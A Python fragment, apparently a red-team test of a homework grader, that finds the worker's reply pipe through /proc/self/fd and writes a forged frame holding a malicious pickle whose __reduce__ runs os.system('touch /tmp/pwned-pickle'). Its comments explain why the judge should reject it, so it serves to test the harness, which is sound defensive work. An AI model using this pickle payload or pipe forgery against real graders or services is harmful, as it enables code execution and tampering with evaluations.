

# ==================== red-team attack (pickle-reply): not homework code ====================
# What it tries: find the worker's reply pipe (a pipe open for writing, not stdout/stderr) and
# write a frame whose payload is a pickle that runs `touch /tmp/pwned-pickle` when unpickled,
# before the real reply (only for the large-scores check).
# Why it must fail: the judge never unpickles: it reads the payload as a 4-byte header length +
# JSON header, finds it malformed, rejects the reply and kills the worker.
import os
import pickle
import struct

def _redteam_reply_fds():
    """The worker's reply pipe: pipes open for writing other than stdout/stderr."""
    fds = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd <= 2:
            continue
        try:
            if not os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                continue
            with open(f"/proc/self/fdinfo/{fd}") as info:
                flags = int(info.read().split("flags:")[1].split()[0], 8)
        except (OSError, IndexError, ValueError):
            continue
        if flags & os.O_ACCMODE == os.O_WRONLY:
            fds.append(fd)
    return fds


class _Boom:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-pickle",))


def _redteam_pickle_reply(x):
    if x.abs().max() <= 100:  # only part1.cross_entropy_large_scores
        return
    payload = pickle.dumps(_Boom())
    fds = _redteam_reply_fds()
    for fd in fds:
        os.write(fd, struct.pack(">Q", len(payload)) + payload)
    print(f"redteam[pickle-reply]: pickle frame written to fds {fds}", flush=True)
